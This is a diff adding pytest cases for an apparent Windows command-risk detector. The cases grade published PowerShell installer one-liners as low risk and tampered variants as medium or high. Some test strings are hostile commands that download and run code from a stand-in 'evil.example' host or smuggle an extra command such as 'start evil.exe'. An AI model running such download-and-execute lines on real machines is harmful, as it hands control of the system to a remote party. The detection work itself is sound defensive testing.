@@ -122,3 +122,48 @@ def test_a_management_tools_first_steps_are_believed_below_windows_own_host_of_s
     assert found(line, winrshost=r"C:\Users\a\Downloads\winrshost.exe").severity == "high"
     changed = encoded(knowledge("plain_scripts")["first_steps"][0] + "; calc")
     assert found(changed, winrshost=host).severity == "high"
+
+
+CHOCOLATEY = (
+    'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Set-ExecutionPolicy Bypass -Scope Process -Force; '
+    "[System.Net.ServicePointManager]::SecurityProtocol = [System.Net.ServicePointManager]::SecurityProtocol -bor 3072; "
+    "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\""
+)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        CHOCOLATEY,
+        'powershell -c "irm get.scoop.sh | iex"',
+        'powershell -c "irm https://astral.sh/uv/install.ps1 | iex"',
+    ],
+)
+def test_a_published_set_up_script_is_low(line: str) -> None:
+    finding = found(line)
+    assert (finding.facts["id"], finding.severity) == ("documented-installer", "low")
+    assert tell(finding.kind, finding.facts, "ja")["meaning"]
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        ("community.chocolatey.org", "community.chocolatey.org.evil.example"),
+        ("https://community", "http://evil.example/?https://community"),
+        ("install.ps1", "install.ps1?x=1"),
+        (
+            "install.ps1'))",
+            "install.ps1')); iex (New-Object Net.WebClient).DownloadString('http://evil.example')",
+        ),
+        ("install.ps1'))", "install.ps1')); iex $x"),
+        ("install.ps1'))", "install.ps1')); start evil.exe"),
+        ("https://community.chocolatey.org", "https://user@community.chocolatey.org"),
+    ],
+)
+def test_any_other_address_is_not(old: str, new: str) -> None:
+    assert old in CHOCOLATEY
+    assert found(CHOCOLATEY.replace(old, new)).severity == "medium"
+
+
+def test_a_published_script_that_is_run_without_a_window_stays_high() -> None:
+    assert found(CHOCOLATEY.replace("-NoProfile", "-WindowStyle Hidden")).severity == "high"
